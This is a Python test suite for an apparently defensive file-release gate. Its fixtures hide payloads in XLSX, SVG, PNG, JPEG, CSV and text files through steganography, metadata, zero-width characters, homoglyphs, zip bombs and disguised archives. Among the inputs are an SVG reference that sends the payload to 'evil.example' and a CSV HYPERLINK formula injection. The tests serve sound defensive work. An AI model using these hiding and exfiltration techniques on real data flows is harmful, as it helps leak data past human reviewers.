"""Hidden content against the airlock: checkers see all of what leaves, and what leaves is
what they saw (issue 10, items 3 and 8).

Every case is a real release request through the API, read page by page by two independent
checkers, approved, and downloaded (:mod:`tests.attacks.hidden_content_lab`).  The property:
the downloaded file holds no payload the checkers were not shown — hidden parts are either
dropped by the lab's regeneration, shown and marked in the preview, or the file is refused
with the rule named.
"""

from __future__ import annotations

import base64
import gzip
import io
import tarfile
import time
import zipfile
from collections.abc import Iterator
from typing import Any

import numpy as np
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.airlock_e2e.conftest import World, xlsx_bytes
from tests.attacks.hidden_content_lab import PAYLOAD, Outcome, attempt, hidden_content_world

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def lab_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    yield from hidden_content_world(tmp_path_factory)


MARKER = "MARKER-qinghe-note"  # content that is shown to checkers and may leave (no identifiers)
TABLE = [["village", "residents"], ["青禾村", 40], ["东岭村", 40], ["南湾村", 40]]


def _book(extra: Any = None) -> bytes:
    def build(wb: Any) -> None:
        for row in TABLE:
            wb.active.append(row)
        if extra is not None:
            extra(wb)

    return xlsx_bytes(build)


def _released_xlsx(out: Outcome, name: str = "t.xlsx") -> tuple[zipfile.ZipFile, bytes]:
    z = zipfile.ZipFile(io.BytesIO(out.downloads[name]))
    return z, b"".join(z.read(n) for n in z.namelist())


def _with_member(data: bytes, member: str, content: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info.filename))
        dst.writestr(member, content)
    return buf.getvalue()


def _refused(out: Outcome, name: str, *rules: str) -> None:
    assert out.state == "returned" and not out.downloads, out.state
    assert out.rules(name) & set(rules), out.rules(name)


# -- XLSX ---------------------------------------------------------------------------------------
def test_xlsx_cell_comment_is_shown_then_not_released(lab_world: World) -> None:
    from openpyxl.comments import Comment

    out = attempt(
        lab_world, {"t.xlsx": _book(lambda wb: setattr(wb.active["B2"], "comment", Comment(PAYLOAD, "dev")))}
    )
    assert PAYLOAD in out.preview_text("t.xlsx")  # the checker read the comment
    z, everything = _released_xlsx(out)
    assert PAYLOAD.encode() not in everything and not any("comment" in n for n in z.namelist())


@pytest.mark.parametrize("field", ["keywords", "description", "creator", "title", "subject", "category"])
def test_xlsx_core_properties_are_not_released(lab_world: World, field: str) -> None:
    out = attempt(lab_world, {"t.xlsx": _book(lambda wb: setattr(wb.properties, field, PAYLOAD))})
    assert PAYLOAD in out.preview_text("t.xlsx")
    assert PAYLOAD.encode() not in _released_xlsx(out)[1]


def test_xlsx_custom_properties_are_not_released(lab_world: World) -> None:
    from openpyxl.packaging.custom import StringProperty

    out = attempt(
        lab_world, {"t.xlsx": _book(lambda wb: wb.custom_doc_props.append(StringProperty("note", PAYLOAD)))}
    )
    assert PAYLOAD in out.preview_text("t.xlsx")
    assert PAYLOAD.encode() not in _released_xlsx(out)[1]


@pytest.mark.parametrize(
    "member",
    ["xl/payload.bin", "customXml/item1.xml", "docProps/thumbnail.jpeg", "xl/media/image1.png", "notes.txt"],
)
def test_xlsx_extra_members_are_refused(lab_world: World, member: str) -> None:
    out = attempt(lab_world, {"t.xlsx": _with_member(_book(), member, PAYLOAD.encode())})
    _refused(out, "t.xlsx", "xlsx_extra_member")


def test_xlsx_hidden_row_and_column_are_shown_marked_and_released_visible(lab_world: World) -> None:
    from openpyxl import load_workbook

    def hide(wb: Any) -> None:
        wb.active.append(["秘密村", MARKER])
        wb.active.row_dimensions[5].hidden = True
        wb.active["C1"] = MARKER + "-col"
        wb.active.column_dimensions["C"].hidden = True

    out = attempt(lab_world, {"t.xlsx": _book(hide)})
    page = out.previews["t.xlsx"][0]["section"]
    assert any("hidden_row" in r["mark"] and MARKER in r["cells"] for r in page["rows"])
    assert "hidden_col" in page["header_marks"].values()
    ws = load_workbook(io.BytesIO(out.downloads["t.xlsx"])).active
    assert not any(d.hidden for d in ws.row_dimensions.values())
    assert not any(d.hidden for d in ws.column_dimensions.values())


def test_xlsx_hidden_sheet_never_leaves_unseen(lab_world: World) -> None:
    def hidden_sheet(wb: Any) -> None:
        ws = wb.create_sheet("raw")
        ws.append([PAYLOAD])
        ws.sheet_state = "veryHidden"

    out = attempt(lab_world, {"t.xlsx": _book(hidden_sheet)})
    if out.state == "returned":  # the table format check refuses hidden sheets outright
        _refused(out, "t.xlsx", "table_format", "hidden_sheet")
        return
    assert PAYLOAD in out.preview_text("t.xlsx")
    from openpyxl import load_workbook

    assert all(
        ws.sheet_state == "visible" for ws in load_workbook(io.BytesIO(out.downloads["t.xlsx"])).worksheets
    )


def test_xlsx_defined_name_constant_is_not_released(lab_world: World) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    out = attempt(
        lab_world,
        {"t.xlsx": _book(lambda wb: wb.defined_names.add(DefinedName("secret", attr_text=f'"{PAYLOAD}"')))},
    )
    assert PAYLOAD in out.preview_text("t.xlsx")
    assert PAYLOAD.encode() not in _released_xlsx(out)[1]


def test_xlsx_styles_that_hide_a_value_are_dropped(lab_world: World) -> None:
    from openpyxl.styles import Font

    def hide(wb: Any) -> None:
        wb.active.append(["白字村", 40])
        wb.active["A5"].font = Font(color="FFFFFF")
        wb.active["B5"].number_format = ";;;"

    out = attempt(lab_world, {"t.xlsx": _book(hide)})
    assert "白字村" in out.preview_text("t.xlsx")
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(out.downloads["t.xlsx"])).active
    assert ws["B5"].number_format == "General"
    assert getattr(ws["A5"].font.color, "rgb", None) not in ("FFFFFFFF", "00FFFFFF")


def test_xlsx_data_validation_list_is_not_released(lab_world: World) -> None:
    from openpyxl.worksheet.datavalidation import DataValidation

    def validation(wb: Any) -> None:
        dv = DataValidation(type="list", formula1=f'"{PAYLOAD}"')
        wb.active.add_data_validation(dv)
        dv.add("A2")

    out = attempt(lab_world, {"t.xlsx": _book(validation)})
    assert "dataValidations" in out.preview_text("t.xlsx")  # listed as not released
    assert PAYLOAD.encode() not in _released_xlsx(out)[1]


def test_xlsx_zip_bomb_is_refused_from_the_directory_quickly(lab_world: World) -> None:
    row = "".join("<c><v>1</v></c>" for _ in range(100))
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + f"<row>{row}</row>" * 10_000
        + "</sheetData></worksheet>"
    )  # a million cells
    buf = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_book())) as src,
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for info in src.infolist():
            body = sheet.encode() if info.filename == "xl/worksheets/sheet1.xml" else src.read(info.filename)
            dst.writestr(info.filename, body)
    data = buf.getvalue()
    assert len(data) < 200_000
    out = attempt(lab_world, {"bomb.xlsx": data})
    _refused(out, "bomb.xlsx", "zip_ratio", "too_many_cells")


_SST_REL = (
    b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'sharedStrings" Target="sharedStrings.xml" Id="rId9" />'
)
_SST_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" />'
)


def test_xlsx_phonetic_text_is_not_released(lab_world: World) -> None:
    book = _book(lambda wb: wb.active.append(["注音村", 40]))
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    shared = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        f'<si><t>注音村</t><rPh sb="0" eb="1"><t>{PAYLOAD}</t></rPh></si></sst>'
    )
    sheet = sheet.replace('t="inlineStr"><is><t>注音村</t></is>', 't="s"><v>0</v>')
    rebuilt = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as src, zipfile.ZipFile(rebuilt, "w") as dst:
        for info in src.infolist():
            body = sheet.encode() if info.filename == "xl/worksheets/sheet1.xml" else src.read(info.filename)
            if info.filename == "xl/_rels/workbook.xml.rels":
                body = body.replace(b"</Relationships>", _SST_REL + b"</Relationships>")
            elif info.filename == "[Content_Types].xml":
                body = body.replace(b"</Types>", _SST_TYPE + b"</Types>")
            dst.writestr(info.filename, body)
        dst.writestr("xl/sharedStrings.xml", shared)
    out = attempt(lab_world, {"t.xlsx": rebuilt.getvalue()})
    assert out.state == "released", out.rules("t.xlsx")
    assert "注音村" in out.preview_text("t.xlsx")
    assert PAYLOAD.encode() not in _released_xlsx(out)[1]


# -- SVG ----------------------------------------------------------------------------------------
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" '
    'height="100">{}<rect x="10" y="10" width="50" height="20" fill="#2f6fb0"/>'
    '<text x="10" y="60">人数</text></svg>'
)


@pytest.mark.parametrize(
    "hidden",
    [
        f"<!-- {PAYLOAD} -->",
        f'<g data-payload="{PAYLOAD}"><rect x="1" y="1" width="1" height="1"/></g>',
        f"<metadata><rdf>{PAYLOAD}</rdf></metadata>",
        f"<title>{PAYLOAD}</title><desc>{PAYLOAD}</desc>",
        f'<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">{PAYLOAD}</div></foreignObject>',
        f"<script>var x = '{PAYLOAD}';</script>",
        f'<image xlink:href="http://evil.example/{PAYLOAD}.png" width="1" height="1"/>',
        f'<rect id="{PAYLOAD}" x="1" y="1" width="1" height="1"/>',
        f'<rect x="1" y="1" width="1" height="1" class="{PAYLOAD}" style="fill: red; --x: {PAYLOAD}"/>',
        f"<style>/* {PAYLOAD} */ rect {{ fill: red }}</style>",
        f'<rect x="1" y="1" width="1" height="1" visibility="hidden" font-family="{PAYLOAD}"/>',
    ],
    ids=[
        "comment",
        "data-attr",
        "metadata",
        "title-desc",
        "foreignObject",
        "script",
        "external-href",
        "id",
        "class-style",
        "style-comment",
        "font-family",
    ],
)
def test_svg_hidden_content_never_leaves(lab_world: World, hidden: str) -> None:
    out = attempt(lab_world, {"c.svg": SVG.format(hidden).encode()})
    if out.state == "returned":  # scripts, foreignObject and external references fail the image check
        _refused(out, "c.svg", "images")
        return
    released = out.downloads["c.svg"]
    assert PAYLOAD.encode() not in released and b"<!--" not in released and b"data-" not in released
    assert b"\xe4\xba\xba\xe6\x95\xb0" in released  # the visible text (人数) is still there
    assert (
        out.downloads["c.svg"].decode()
        in "\n".join(  # what left is the source the checker read
            "\n".join(r["cells"][0] for r in p["section"]["rows"])
            for p in out.previews["c.svg"]
            if p["section"]["kind"] == "source"
        )
        + "\n"
    )


def test_svg_low_digits_in_coordinates_are_rounded(lab_world: World) -> None:
    digits = "".join(str(ord(c) % 10) for c in PAYLOAD)[:12]
    rect = f'<rect x="10.00{digits}" y="5" width="3.1{digits}" height="2" fill="#2f6fb1"/>'
    out = attempt(lab_world, {"c.svg": SVG.format(rect).encode()})
    released = out.downloads["c.svg"].decode()
    assert digits not in released and 'x="10"' in released and "#2f6fb1" not in released


# -- PNG and JPEG -------------------------------------------------------------------------------
def _lsb_png(payload: bytes) -> bytes:
    rng = np.random.default_rng(7)
    pixels = rng.integers(0, 256, size=(64, 64, 3), dtype=np.uint8)
    bits = np.unpackbits(np.frombuffer(payload, dtype=np.uint8))
    flat = pixels.reshape(-1)
    flat[: bits.size] = (flat[: bits.size] & 0xFE) | bits
    buf = io.BytesIO()
    Image.fromarray(flat.reshape(64, 64, 3)).save(buf, format="PNG")
    return buf.getvalue()


def _lsb(data: bytes, n: int) -> bytes:
    flat = np.asarray(Image.open(io.BytesIO(data)).convert("RGB")).reshape(-1)
    return np.packbits(flat[: n * 8] & 1).tobytes()


def test_png_lsb_payload_does_not_survive_release(lab_world: World) -> None:
    payload = PAYLOAD.encode() * 4
    original = _lsb_png(payload)
    assert _lsb(original, len(payload)) == payload  # the attack works on the original
    out = attempt(lab_world, {"chart.png": original})
    released = out.downloads["chart.png"]
    assert _lsb(released, len(payload)) != payload
    assert PAYLOAD.encode() not in _lsb(released, len(payload))
    low = np.asarray(Image.open(io.BytesIO(released)).convert("RGB")) % 4
    before = np.asarray(Image.open(io.BytesIO(original)).convert("RGB")).astype(int)
    after = np.asarray(Image.open(io.BytesIO(released)).convert("RGB")).astype(int)
    assert np.abs(before - after).max() <= 9  # 16 levels per channel: the same picture to the eye
    assert len(np.unique(low)) <= 4 and out.previews["chart.png"][0]["section"]["kind"] == "image"


@pytest.mark.parametrize("chunk", ["text", "ztxt", "itxt", "trailing", "transparent"])
def test_png_metadata_trailing_bytes_and_transparent_pixels(lab_world: World, chunk: str) -> None:
    info = PngInfo()
    mode = "RGBA" if chunk == "transparent" else "RGB"
    img = Image.new(mode, (32, 32), (255, 255, 255, 255) if mode == "RGBA" else "white")
    if chunk == "text":
        info.add_text("Comment", PAYLOAD)
    elif chunk == "ztxt":
        info.add_text("Comment", PAYLOAD, zip=True)
    elif chunk == "itxt":
        info.add_itxt("Comment", PAYLOAD, lang="zh", tkey="备注")
    elif chunk == "transparent":
        raw = PAYLOAD.encode()
        for i in range(0, len(raw) - 2, 3):  # payload in the colour of invisible pixels
            img.putpixel((i // 3, 0), (raw[i], raw[i + 1], raw[i + 2], 0))
    buf = io.BytesIO()
    img.save(buf, format="PNG", pnginfo=info)
    data = buf.getvalue() + (PAYLOAD.encode() if chunk == "trailing" else b"")
    out = attempt(lab_world, {"chart.png": data})
    released = out.downloads["chart.png"]
    assert PAYLOAD.encode() not in released and PAYLOAD.encode() not in gzip_free(released)
    assert released.endswith(b"IEND\xaeB`\x82")
    if chunk == "transparent":
        rgba = np.asarray(Image.open(io.BytesIO(released)).convert("RGBA"))
        assert not rgba[rgba[..., 3] == 0][..., :3].any()


def gzip_free(png: bytes) -> bytes:
    """The inflated pixel data of a PNG (a payload could sit there compressed)."""
    import zlib

    idat = b""
    pos = 8
    while pos + 8 <= len(png):
        length = int.from_bytes(png[pos : pos + 4], "big")
        if png[pos + 4 : pos + 8] == b"IDAT":
            idat += png[pos + 8 : pos + 8 + length]
        pos += 12 + length
    return zlib.decompress(idat)


def test_jpeg_exif_and_comment_are_not_released(lab_world: World) -> None:
    exif = Image.Exif()
    exif[0x010E] = PAYLOAD  # ImageDescription
    exif[0x013B] = PAYLOAD  # Artist
    buf = io.BytesIO()
    Image.new("RGB", (32, 32), "white").save(buf, format="JPEG", exif=exif, comment=PAYLOAD.encode())
    out = attempt(lab_world, {"photo.jpg": buf.getvalue()})
    released = out.downloads["photo.jpg"]
    assert PAYLOAD.encode() not in released and b"Exif" not in released
    assert not Image.open(io.BytesIO(released)).getexif()


# -- text, logs and CSV -------------------------------------------------------------------------
def test_text_past_line_60_is_in_the_preview_and_the_release_is_what_was_shown(lab_world: World) -> None:
    lines = [f"step {i}: ok" for i in range(1, 451)]
    lines[299] = f"step 300: {MARKER}"
    out = attempt(lab_world, {"run.log": ("\n".join(lines) + "\n").encode()})
    pages = out.previews["run.log"]
    assert len(pages) >= 3 and MARKER in out.preview_text("run.log")
    shown = "\n".join(r["cells"][0] for p in pages for r in p["section"]["rows"]) + "\n"
    assert out.downloads["run.log"].decode() == shown


@pytest.mark.parametrize("wrap", [0, 76])
def test_base64_in_a_log_is_refused(lab_world: World, wrap: int) -> None:
    blob = base64.b64encode((PAYLOAD * 20).encode()).decode()
    if wrap:
        blob = "\n".join(blob[i : i + wrap] for i in range(0, len(blob), wrap))
    out = attempt(lab_world, {"run.log": f"training done\n{blob}\nbye\n".encode()})
    _refused(out, "run.log", "encoded_blob")


def test_base64_split_over_csv_cells_is_refused(lab_world: World) -> None:
    blob = base64.b64encode((PAYLOAD * 10).encode()).decode()
    rows = "".join(f"青禾村{i},{blob[i * 60 : (i + 1) * 60]}\n" for i in range(len(blob) // 60))
    out = attempt(lab_world, {"t.csv": f"village,note\n{rows}".encode()})
    _refused(out, "t.csv", "encoded_blob", "pii_scan", "leakage_scan", "table_format")


def test_invisible_characters_and_trailing_spaces_are_removed(lab_world: World) -> None:
    secret = "".join("\u200b" if b == "1" else "\u200c" for b in format(ord("L"), "08b"))
    text = f"模型训练完成{secret}\n准确率 0.81   \t \n\x1b[31m彩色\x07\n"
    out = attempt(lab_world, {"notes.txt": text.encode()})
    released = out.downloads["notes.txt"].decode()
    assert released == "模型训练完成\n准确率 0.81\n[31m彩色\n"
    assert "control" in out.preview_text("notes.txt")


def test_csv_is_rewritten_from_its_cells(lab_world: World) -> None:
    csv = 'village,residents\n青禾村  ,40\n"东岭村",40\r\n南湾村,"40"\n'.encode("gb18030")
    out = attempt(lab_world, {"t.csv": csv})
    assert out.downloads["t.csv"] == "village,residents\n青禾村,40\n东岭村,40\n南湾村,40\n".encode()


def test_csv_formula_never_leaves_as_a_formula(lab_world: World) -> None:
    csv = f'village,residents\n=HYPERLINK("http://x/{PAYLOAD}"),40\n@SUM(1),40\n'.encode()
    out = attempt(lab_world, {"t.csv": csv})
    if out.state == "returned":  # the detectors refuse formulas
        return
    for line in out.downloads["t.csv"].decode().splitlines()[1:]:
        assert not line.lstrip('"').startswith(("=", "@", "+", "-"))


def test_json_with_a_duplicated_key_is_refused(lab_world: World) -> None:
    out = attempt(lab_world, {"m.json": f'{{"rmse": "{PAYLOAD}", "rmse": 1.5}}'.encode()})
    _refused(out, "m.json", "json_duplicate_key")


# -- archives and formats that cannot be previewed ------------------------------------------------
def test_200000_entry_tar_is_refused(lab_world: World) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for i in range(200_000):
            tar.addfile(tarfile.TarInfo(f"f{i}"))
    started = time.monotonic()
    out = attempt(lab_world, {"rows.tar": buf.getvalue()})
    _refused(out, "rows.tar", "type_not_allowed", "archive")
    assert time.monotonic() - started < 60


@pytest.mark.parametrize("name", ["rows.txt", "rows.csv"])
def test_tar_disguised_as_text_is_refused(lab_world: World, name: str) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("rows.csv")
        body = f"id\n{PAYLOAD}\n".encode()
        info.size = len(body)
        tar.addfile(info, io.BytesIO(body))
    out = attempt(lab_world, {name: buf.getvalue()})
    _refused(out, name, "content_mismatch")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("rows.zip", b"PK\x05\x06" + b"\0" * 18),
        ("rows.csv.gz", gzip.compress(b"id\n1\n")),
        ("report.pdf", b"%PDF-1.4\n" + PAYLOAD.encode()),
        ("rows.parquet", b"PAR1" + b"\0" * 16),
    ],
    ids=["zip", "gzip", "pdf", "parquet"],  # the gzip header holds a time: ids from bytes differ per worker
)
def test_formats_without_a_complete_preview_are_refused(lab_world: World, name: str, data: bytes) -> None:
    out = attempt(lab_world, {name: data})
    _refused(out, name, "type_not_allowed", "archive", "unknown_format")


def test_zip_bomb_named_csv_is_refused(lab_world: World) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("a.csv", b"0" * 50_000_000)
    out = attempt(lab_world, {"t.csv": buf.getvalue()})
    _refused(out, "t.csv", "content_mismatch")


def test_release_audit_records_regenerated_hashes(lab_world: World) -> None:
    from countylab.audit.log import recent

    out = attempt(lab_world, {"t.csv": b"village,residents\n\xe9\x9d\x92\xe7\xa6\xbe\xe6\x9d\x91 ,40\n"})
    with lab_world.lab.tx() as s:
        event = next(e for e in recent(s, limit=50) if e.action == "release.released")
    f = out.request["files"][0]
    assert event.details["regenerated"][f["name"]] == {
        "submitted": f["sha256"],
        "released": f["released_sha256"],
    }
    assert f["sha256"] != f["released_sha256"]  # the trailing space was not released


def test_look_alike_letters_as_a_channel_are_refused(lab_world: World) -> None:
    bits = format(ord("L"), "08b")
    words = " ".join(("p\u0430ss" if b == "1" else "pass") for b in bits)  # Cyrillic а = 1
    out = attempt(lab_world, {"notes.txt": f"checks: {words}\n".encode()})
    _refused(out, "notes.txt", "mixed_script")


def test_space_variants_as_a_channel_are_flattened(lab_world: World) -> None:
    bits = format(ord("L"), "08b")
    text = "".join(("词\u00a0" if b == "1" else "词\u2009") for b in bits) + "\n"
    out = attempt(lab_world, {"notes.txt": text.encode()})
    released = out.downloads["notes.txt"].decode()
    assert released == "词 " * 7 + "词\n" and "\u00a0" not in released


def test_xlsx_zip_comment_and_member_extra_fields_are_not_released(lab_world: World) -> None:
    out_buf = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_book())) as src,
        zipfile.ZipFile(out_buf, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            fresh = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            fresh.compress_type = zipfile.ZIP_DEFLATED
            fresh.comment = PAYLOAD.encode()
            fresh.extra = b"\xfe\xca" + len(PAYLOAD).to_bytes(2, "little") + PAYLOAD.encode()
            dst.writestr(fresh, src.read(info.filename))
        dst.comment = PAYLOAD.encode()
    data = out_buf.getvalue()
    assert data.count(PAYLOAD.encode()) > 3
    out = attempt(lab_world, {"t.xlsx": data})
    assert PAYLOAD.encode() not in out.downloads["t.xlsx"]


def test_png_palette_entries_nobody_sees_are_not_released(lab_world: World) -> None:
    img = Image.new("P", (16, 16), 0)
    raw = PAYLOAD.encode().ljust(255 * 3 - 3, b"\0")
    img.putpalette(b"\xff\xff\xff" + raw)  # entry 0 is white; the rest is payload no pixel uses
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    assert PAYLOAD.encode() in buf.getvalue()
    out = attempt(lab_world, {"chart.png": buf.getvalue()})
    assert PAYLOAD.encode() not in out.downloads["chart.png"]
    assert PAYLOAD.encode() not in gzip_free(out.downloads["chart.png"])
